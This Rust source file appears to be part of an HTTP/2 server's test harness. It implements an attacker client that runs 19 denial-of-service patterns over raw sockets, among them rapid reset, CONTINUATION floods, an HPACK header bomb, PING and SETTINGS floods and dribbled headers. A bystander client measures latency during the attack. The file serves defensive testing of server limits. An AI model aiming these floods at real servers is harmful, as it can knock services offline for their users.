//! An attacker over raw sockets, which connects again when the server ends a connection, and a bystander that measures its own
//! latency meanwhile. The case `attacks` starts both and reads their lines.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::BytesMut;
use clap::{Args, ValueEnum};
use fullbore::rustls::pki_types::ServerName;
use fullbore::tls::{Roots, client_config};
use fullbore::{Client, ErrorCode};
use fullbore_testing::frames::{
    self, CONTINUATION, Frame, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, frame, headers, settings,
    window_update,
};
use http_body_util::BodyExt;
use nix::sys::resource::{UsageWho, getrusage};
use nix::sys::time::TimeValLike;
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::time::{sleep, sleep_until, timeout};

use super::{Failure, print_line};

/// Of no RFC.
const UNKNOWN: u8 = 0xee;
/// What an attacker writes at once.
const BATCH: usize = 16 << 10;
/// Connections of an attacker that holds on to what it has instead of being thrown out, unless it is told how many.
pub(crate) const HELD: usize = 8;
/// Streams under frames that concern all of them.
const MANY_STREAMS: u32 = 10_000;
/// How long it takes to open them, on 16 connections and on a busy machine.
const OPENING: Duration = Duration::from_millis(1_500);
/// Streams on each of them.
const HELD_STREAMS: u32 = 50;
/// How many streams are allowed to those who open more.
pub(crate) const LIMIT: u32 = 100;
/// `:method: GET`, `:scheme: http`, and a path that is a literal.
const GET: [u8; 2] = [0x82, 0x86];
const POST: [u8; 2] = [0x83, 0x86];

/// Frames at first, and then after each pause.
struct Pace {
    first: u32,
    then: u32,
    pause: Duration,
}

/// What the attacker does; `docs/design/limits.md` tells of each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    RapidReset,
    WindowUpdateOfNothing,
    MalformedRequests,
    Continuation,
    HeaderBomb,
    Pings,
    Settings,
    WindowsOfStreams,
    WindowUpdates,
    Priorities,
    PrioritiesOfStreams,
    UnknownFrames,
    EmptyData,
    StreamsOverTheLimit,
    Requests,
    UnreadReplies,
    UnreadBodies,
    ClosedWindows,
    DribbledHeaders,
}

impl Attack {
    pub(crate) const ALL: [Attack; 19] = [
        Attack::RapidReset,
        Attack::WindowUpdateOfNothing,
        Attack::MalformedRequests,
        Attack::Continuation,
        Attack::HeaderBomb,
        Attack::Pings,
        Attack::Settings,
        Attack::WindowsOfStreams,
        Attack::WindowUpdates,
        Attack::Priorities,
        Attack::PrioritiesOfStreams,
        Attack::UnknownFrames,
        Attack::EmptyData,
        Attack::StreamsOverTheLimit,
        Attack::Requests,
        Attack::UnreadReplies,
        Attack::UnreadBodies,
        Attack::ClosedWindows,
        Attack::DribbledHeaders,
    ];

    /// Its name in the table.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::WindowUpdateOfNothing => "resets provoked by WINDOW_UPDATE of nothing",
            Attack::MalformedRequests => "resets provoked by malformed requests",
            Attack::Continuation => "CONTINUATION, empty",
            Attack::HeaderBomb => "16,000 references to 4 KB of the table",
            Attack::Pings => "PING",
            Attack::Settings => "SETTINGS",
            Attack::WindowsOfStreams => "windows of 10,000 streams, as often as is allowed",
            Attack::WindowUpdates => "WINDOW_UPDATE",
            Attack::Priorities => "PRIORITY",
            Attack::PrioritiesOfStreams => "PRIORITY_UPDATE of 10,000 streams, likewise",
            Attack::UnknownFrames => "unknown frames",
            Attack::EmptyData => "empty DATA",
            Attack::StreamsOverTheLimit => "streams over the limit",
            Attack::Requests => "10,000 requests at once, again and again",
            Attack::UnreadReplies => "PING whose answers are not read",
            Attack::UnreadBodies => "bodies that are not read",
            Attack::ClosedWindows => "bodies behind closed windows",
            Attack::DribbledHeaders => "a header block that dribbles",
        }
    }

    /// Its name on the command line.
    pub(crate) fn word(self) -> String {
        self.to_possible_value()
            .map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// Whether it keeps its connections open, rather than being thrown out.
    pub(crate) fn holds(self) -> bool {
        matches!(
            self,
            Attack::WindowsOfStreams
                | Attack::PrioritiesOfStreams
                | Attack::UnreadReplies
                | Attack::UnreadBodies
                | Attack::ClosedWindows
                | Attack::DribbledHeaders
        )
    }

    /// How many frames it sends at first and then each time after a pause, so that its bucket never runs dry (limits.md): the
    /// worst that it can do without being thrown out. None for attacks that send all that they can.
    fn pace(self) -> Option<Pace> {
        match self {
            // 79 tokens each, of 1,000 and 100 a second.
            Attack::WindowsOfStreams => Some(Pace {
                first: 11,
                then: 1,
                pause: Duration::from_millis(850),
            }),
            // A token each, of 10,000 and 1,000 a second.
            Attack::PrioritiesOfStreams => Some(Pace {
                first: 9_000,
                then: 90,
                pause: Duration::from_millis(100),
            }),
            _ => None,
        }
    }

    /// How long it takes until the attack proper begins, which is not measured.
    pub(crate) fn opening(self) -> Duration {
        self.pace().map_or(Duration::ZERO, |_| OPENING)
    }

    fn reads(self) -> bool {
        !matches!(self, Attack::UnreadReplies | Attack::UnreadBodies)
    }

    /// How many connections it has at once, unless it is told otherwise.
    pub(crate) fn connections(self) -> usize {
        match self.pace() {
            None if self.holds() => HELD,
            _ => 1,
        }
    }

    fn settings(self) -> Vec<u8> {
        match self {
            Attack::ClosedWindows | Attack::WindowsOfStreams | Attack::Requests => {
                settings(&[(INITIAL_WINDOW_SIZE, 0)])
            }
            Attack::UnreadBodies => settings(&[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]),
            _ => settings(&[]),
        }
    }

    /// What it sends once.
    fn first(self) -> Vec<u8> {
        let gets = || (0..HELD_STREAMS).flat_map(|round| request(&GET, 5, nth(round), "/4194304"));
        match self {
            Attack::Continuation | Attack::DribbledHeaders => frame(HEADERS, 0, 1, &GET),
            Attack::EmptyData => request(&POST, 4, 1, "/12"),
            // A field of 4,033 octets, of which the table of 4,096 has room for one.
            Attack::HeaderBomb => {
                let value = &frames::literal(0, &"x".repeat(4_000))[1..];
                headers(1, 5, &[&GET[..], &[0x84, 0x40, 1, b'a'], value].concat())
            }
            Attack::StreamsOverTheLimit => (0..LIMIT)
                .flat_map(|round| request(&POST, 4, nth(round), "/12"))
                .collect(),
            Attack::UnreadBodies => {
                let window = window_update(0, 0x7fff_0000);
                window.into_iter().chain(gets()).collect()
            }
            Attack::ClosedWindows => gets().collect(),
            Attack::WindowsOfStreams | Attack::Requests => (0..MANY_STREAMS)
                .flat_map(|round| request(&GET, 5, nth(round), "/4194304"))
                .collect(),
            // The connection's window is closed after 65,535 octets: all streams stay in the schedule.
            Attack::PrioritiesOfStreams => (0..MANY_STREAMS)
                .flat_map(|round| incremental(nth(round), "/4194304"))
                .collect(),
            _ => Vec::new(),
        }
    }

    /// What it sends again and again; nothing for an attack that sends all at the start.
    fn round(self, number: u32, out: &mut Vec<u8>) {
        let stream = nth(number);
        match self {
            Attack::RapidReset => {
                out.extend(request(&GET, 5, stream, "/12"));
                out.extend(frames::reset(stream, 8));
            }
            Attack::WindowUpdateOfNothing => {
                out.extend(request(&POST, 4, stream, "/12"));
                out.extend(window_update(stream, 0));
            }
            Attack::MalformedRequests => out.extend(frame(HEADERS, 5, stream, &GET)),
            Attack::Continuation => out.extend(frame(CONTINUATION, 0, 1, &[])),
            Attack::HeaderBomb => {
                let block = [&GET[..], &[0x84], &[0xbe; 16_000]].concat();
                out.extend(frame(HEADERS, 5, stream + 2, &block));
            }
            Attack::Pings | Attack::UnreadReplies => out.extend(frame(PING, 0, 0, b"12345678")),
            Attack::Settings => out.extend(settings(&[])),
            Attack::WindowsOfStreams => {
                // Each change concerns every stream.
                out.extend(settings(&[(INITIAL_WINDOW_SIZE, 1 + number % 2)]));
            }
            Attack::WindowUpdates => out.extend(window_update(0, 1)),
            Attack::Priorities => out.extend(frames::priority(stream, 0)),
            Attack::PrioritiesOfStreams => {
                // RFC 9218 section 7.1. The last streams of the schedule are the dearest to find.
                let target = nth(MANY_STREAMS - 1 - number % MANY_STREAMS);
                let field = if number / MANY_STREAMS % 2 == 0 {
                    "u=2, i"
                } else {
                    "i"
                };
                out.extend(frames::priority_update(target, field));
            }
            Attack::UnknownFrames => out.extend(frame(UNKNOWN, 0, 0, &[])),
            Attack::EmptyData => out.extend(frames::data(1, 0, &[])),
            Attack::StreamsOverTheLimit => out.extend(request(&POST, 4, nth(LIMIT + number), "/12")),
            Attack::Requests | Attack::UnreadBodies | Attack::ClosedWindows | Attack::DribbledHeaders => {}
        }
    }
}

/// A request whose path is a literal with a name of the static table.
fn request(method: &[u8; 2], flags: u8, stream: u32, path: &str) -> Vec<u8> {
    headers(stream, flags, &[&method[..], &frames::literal(4, path)].concat())
}

/// A GET that is sent incrementally, in turn with the others (RFC 9218 section 4.2).
fn incremental(stream: u32, path: &str) -> Vec<u8> {
    let priority = frames::block(&[("priority", "i")]);
    headers(
        stream,
        5,
        &[&GET[..], &frames::literal(4, path), &priority].concat(),
    )
}

/// The stream of a round, beginning with 1.
fn nth(round: u32) -> u32 {
    2 * round + 1
}

trait Transport: AsyncRead + AsyncWrite + Unpin + Send {}

impl<T: AsyncRead + AsyncWrite + Unpin + Send> Transport for T {}

#[derive(Args, Clone)]
pub(crate) struct Attacker {
    #[arg(value_enum)]
    attack: Attack,
    server: SocketAddr,
    /// For how long
    #[arg(long)]
    for_ms: u64,
    /// Over TLS
    #[arg(long)]
    tls: bool,
    /// How many connections at once
    #[arg(long)]
    connections: Option<usize>,
}

/// What an attacker has to tell in the end.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Attacked {
    /// Connections that came to their end.
    pub(crate) thrown_out: u64,
    /// How they ended, and how often so.
    pub(crate) ends: BTreeMap<String, u64>,
    /// What the attacker had of the processor.
    pub(crate) cpu: Duration,
    pub(crate) seconds: f64,
}

impl Attacked {
    /// Adds what came of the same attack later.
    pub(crate) fn add(&mut self, later: Self) {
        self.thrown_out += later.thrown_out;
        for (end, count) in later.ends {
            *self.ends.entry(end).or_default() += count;
        }
        self.cpu += later.cpu;
        self.seconds += later.seconds;
    }

    fn line(&self) -> Value {
        json!({ "thrown_out": self.thrown_out, "ends": self.ends, "cpu_us": self.cpu.as_micros() as u64,
                "seconds": self.seconds })
    }

    pub(crate) fn parse(line: &str) -> Option<Self> {
        let line: Value = serde_json::from_str(line).ok()?;
        let ends = line.get("ends")?.as_object()?.iter();
        Some(Self {
            thrown_out: line.get("thrown_out")?.as_u64()?,
            ends: ends
                .map(|(name, count)| Some((name.clone(), count.as_u64()?)))
                .collect::<Option<_>>()?,
            cpu: Duration::from_micros(line.get("cpu_us")?.as_u64()?),
            seconds: line.get("seconds")?.as_f64()?,
        })
    }
}

impl Attacker {
    pub(super) fn run(&self) -> Result<(), Failure> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(self.attack_for_a_while())
    }

    async fn attack_for_a_while(&self) -> Result<(), Failure> {
        let until = tokio::time::Instant::now() + Duration::from_millis(self.for_ms) + self.attack.opening();
        yield_to_others();
        let mut ends = BTreeMap::new();
        let mut attackers = tokio::task::JoinSet::new();
        for _ in 0..self.connections.unwrap_or(self.attack.connections()) {
            let attacker = self.clone();
            attackers.spawn(async move {
                let mut ends = vec![attacker.once(until).await?];
                while !attacker.attack.holds() && tokio::time::Instant::now() < until {
                    ends.push(attacker.once(until).await?);
                }
                Ok::<_, Failure>(ends)
            });
        }
        sleep(self.attack.opening()).await;
        let (begun, before) = (Instant::now(), own_cpu());
        while let Some(ended) = attackers.join_next().await {
            for end in ended?? {
                *ends.entry(end).or_insert(0) += 1;
            }
        }
        let held = ends.get(HELD_ON).copied().unwrap_or(0);
        let attacked = Attacked {
            thrown_out: ends.values().sum::<u64>() - held,
            ends,
            cpu: own_cpu().saturating_sub(before),
            seconds: begun.elapsed().as_secs_f64(),
        };
        print_line(&attacked.line().to_string())
    }

    /// One connection: how it ended.
    async fn once(&self, until: tokio::time::Instant) -> Result<String, Failure> {
        let socket = TcpStream::connect(self.server).await?;
        socket.set_nodelay(true)?;
        let io: Box<dyn Transport> = if self.tls {
            let config = Arc::new(client_config(Roots::InsecureAcceptAny)?);
            let name = ServerName::try_from("localhost")?;
            let connector = tokio_rustls::TlsConnector::from(config);
            Box::new(connector.connect(name, socket).await?)
        } else {
            Box::new(socket)
        };
        let (read, mut write) = tokio::io::split(io);
        let mut opening = [PREFACE, &self.attack.settings(), &self.attack.first()].concat();
        let attack = self.attack;
        if attack == Attack::Requests {
            // The answer comes behind all requests.
            opening.extend(frame(PING, 0, 0, b"together"));
        }
        // A server that has gone already says so to the reader.
        let _ = write.write_all(&opening).await;
        let reading = async move {
            if attack.reads() {
                hear(read).await
            } else {
                let held = read;
                sleep_until(until + Duration::from_secs(60)).await;
                drop(held);
                HELD_ON.to_owned()
            }
        };
        tokio::select! {
            end = reading => Ok(end),
            () = speak(write, attack) => Ok(HELD_ON.to_owned()),
            () = sleep_until(until) => Ok(HELD_ON.to_owned()),
        }
    }
}

/// Open when the time was over.
const HELD_ON: &str = "open";

/// Says round after round; never ends.
async fn speak(mut write: WriteHalf<Box<dyn Transport>>, attack: Attack) {
    let mut round = 0;
    let mut batch = Vec::with_capacity(2 * BATCH);
    if let Some(pace) = attack.pace() {
        sleep(attack.opening()).await;
        for count in std::iter::once(pace.first).chain(std::iter::repeat(pace.then)) {
            batch.clear();
            for _ in 0..count {
                attack.round(round, &mut batch);
                round += 1;
            }
            if write.write_all(&batch).await.is_err() || write.flush().await.is_err() {
                return std::future::pending().await;
            }
            sleep(pace.pause).await;
        }
    }
    if attack == Attack::DribbledHeaders {
        // An octet of CONTINUATION each 100 ms.
        while write.write_all(&frame(CONTINUATION, 0, 1, b"\0")).await.is_ok() {
            sleep(Duration::from_millis(100)).await;
        }
    }
    loop {
        batch.clear();
        while batch.len() < BATCH {
            let before = batch.len();
            attack.round(round, &mut batch);
            round += 1;
            if batch.len() == before {
                break;
            }
        }
        if batch.is_empty() || write.write_all(&batch).await.is_err() || write.flush().await.is_err() {
            // Open, and silent: the reader hears how it ends.
            return std::future::pending().await;
        }
    }
}

/// Reads until the connection ends, or is said to: how.
async fn hear(mut read: ReadHalf<Box<dyn Transport>>) -> String {
    let mut input = BytesMut::new();
    loop {
        while let Some(frame) = Frame::split(&mut input) {
            match frame.kind {
                PING if frame.payload.starts_with(b"together") => return "closed by the attacker".to_owned(),
                GOAWAY if frame.payload.len() >= 8 && frame.code() != 0 => {
                    return ErrorCode(frame.code()).to_string();
                }
                _ => {}
            }
        }
        if read.read_buf(&mut input).await.unwrap_or(0) == 0 {
            return "closed".to_owned();
        }
    }
}

/// Has this thread run only while nobody else wants its core, where the system knows such a policy (`SCHED_IDLE`): an attacker on
/// another machine would take no processor time of the bystander's, and the lowest nice value still delays a thread that wakes.
fn yield_to_others() {
    #[cfg(target_os = "linux")]
    {
        use thread_priority::{
            NormalThreadSchedulePolicy, ThreadPriority, ThreadSchedulePolicy, set_thread_priority_and_policy,
            thread_native_id,
        };
        // Attackers that cannot have this policy attack with the one that they have.
        let _ = set_thread_priority_and_policy(
            thread_native_id(),
            ThreadPriority::Min,
            ThreadSchedulePolicy::Normal(NormalThreadSchedulePolicy::Idle),
        );
    }
}

fn own_cpu() -> Duration {
    getrusage(UsageWho::RUSAGE_SELF).map_or(Duration::ZERO, |usage| {
        [usage.user_time(), usage.system_time()]
            .iter()
            .map(|time| Duration::from_micros(u64::try_from(time.num_microseconds()).unwrap_or(0)))
            .sum()
    })
}

#[derive(Args, Clone)]
pub(crate) struct Bystander {
    url: String,
    /// For how long
    #[arg(long)]
    for_ms: u64,
}

/// Between two requests, so that the bystander is no load.
const PAUSE: Duration = Duration::from_millis(2);
/// A server that is attacked and does not answer for so long does not answer.
const PATIENCE: Duration = Duration::from_secs(10);

impl Bystander {
    /// Asks again and again, and prints how long each answer took, in microseconds.
    pub(super) fn run(&self) -> Result<(), Failure> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(async {
            let client = Client::builder()
                .tls_config(Arc::new(client_config(Roots::InsecureAcceptAny)?))
                .build()?;
            let until = Instant::now() + Duration::from_millis(self.for_ms);
            let mut micros = Vec::new();
            // The first opens the connection.
            for number in 0_u64.. {
                let begun = Instant::now();
                if begun >= until {
                    break;
                }
                let whole = async {
                    Ok::<_, Failure>(
                        client
                            .get(&self.url)
                            .await?
                            .into_body()
                            .collect()
                            .await?
                            .to_bytes(),
                    )
                };
                timeout(PATIENCE, whole).await??;
                if number > 0 {
                    micros.push(u64::try_from(begun.elapsed().as_micros())?);
                }
                sleep(PAUSE).await;
            }
            let micros: Vec<String> = micros.iter().map(u64::to_string).collect();
            print_line(&micros.join(" "))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fullbore_proto::hpack::{Decoder, FieldLimits, FieldSection};

    fn fields(decoder: &mut Decoder, frame: &[u8]) -> Vec<(usize, usize)> {
        let limits = FieldLimits {
            max_bytes: 1 << 30,
            max_fields: 1 << 20,
        };
        let mut section = FieldSection::new();
        let block = frame.get(9..).expect("a frame has a head");
        decoder.decode(block, &limits, &mut section).expect("a block");
        let fields = section.fields().iter();
        fields
            .map(|field| (field.name.as_bytes().len(), field.value.as_bytes().len()))
            .collect()
    }

    #[test]
    fn the_bomb_refers_to_a_large_field_sixteen_thousand_times() {
        let mut decoder = Decoder::new(4_096);
        assert_eq!(
            fields(&mut decoder, &Attack::HeaderBomb.first()).last(),
            Some(&(1, 4_000))
        );
        let mut bomb = Vec::new();
        Attack::HeaderBomb.round(0, &mut bomb);
        let bomb = fields(&mut decoder, &bomb);
        assert_eq!(bomb.iter().filter(|field| **field == (1, 4_000)).count(), 16_000);
    }

    #[test]
    fn the_line_of_an_attacker_is_read_as_it_was_written() {
        let attacked = Attacked {
            thrown_out: 3,
            ends: BTreeMap::from([("ENHANCE_YOUR_CALM".to_owned(), 3), (HELD_ON.to_owned(), 1)]),
            cpu: Duration::from_micros(5),
            seconds: 1.5,
        };
        assert_eq!(Attacked::parse(&attacked.line().to_string()), Some(attacked));
        assert_eq!(Attacked::parse("{}"), None);
    }
}
